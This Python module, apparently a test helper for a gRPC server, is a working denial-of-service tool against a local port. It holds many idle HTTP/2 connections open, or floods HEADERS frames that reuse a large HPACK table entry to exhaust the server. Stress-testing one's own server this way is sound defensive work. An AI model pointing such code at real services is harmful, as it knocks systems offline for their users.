"""A program that attacks a port of gRPC without a key, on sockets of its own, until its standard input is closed.

`python -m tests.server.grpc.attacker PORT idle COUNT`: connections that send HTTP/2's preface and nothing more.
`python -m tests.server.grpc.attacker PORT heads COUNT`: connections that name a large entry of HPACK's table in each frame.

It writes a line once it is under way: all its connections were opened, and of the second kind each has sent much.
"""

import os
import resource
import select
import socket
import struct
import sys

from .raw import HEADERS, SETTINGS, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + struct.pack(">BBI", SETTINGS, 0, 0)
_END_HEADERS = 4
_MUCH = 2000
"""Frames that its connections have sent when it is under way."""


def _frame(stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", HEADERS, _END_HEADERS, stream) + payload


def _head() -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": "/inference.GRPCInferenceService/ModelInfer"}
    fields |= {":authority": "test", "te": "trailers", "content-type": "application/grpc"}
    return b"".join(field(*each) for each in fields.items())


def _connect(port: int) -> socket.socket | None:
    try:
        connection = socket.create_connection(("127.0.0.1", port), 5)
        connection.sendall(PREFACE)
        connection.setblocking(False)
    except OSError:
        return None
    return connection


def main() -> None:
    port, kind, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    os.nice(5)
    held = [_connect(port) for _ in range(count)]
    if kind == "idle":
        print("under way", flush=True)
        sys.stdin.read()
        return
    large = field("x", "a" * 3900, indexed=True)
    sent = dict.fromkeys(range(count), 0)
    rest = dict.fromkeys(range(count), b"")
    said, frames = False, 0
    while not select.select([sys.stdin], [], [], 0)[0]:
        for number, connection in enumerate(held):
            try:
                if connection is None:
                    raise ConnectionError
                if not rest[number]:
                    again = large if sent[number] == 0 else b""
                    rest[number] = _frame(2 * sent[number] + 1, _head() + again + b"\xbe" * 4000)
                    sent[number] += 1
                    frames += 1
                rest[number] = rest[number][connection.send(rest[number]) :]
            except BlockingIOError:
                pass
            except OSError:
                held[number], rest[number], sent[number] = _connect(port), b"", 0
        if not said and frames > _MUCH:
            said = True
            print("under way", flush=True)


if __name__ == "__main__":
    main()
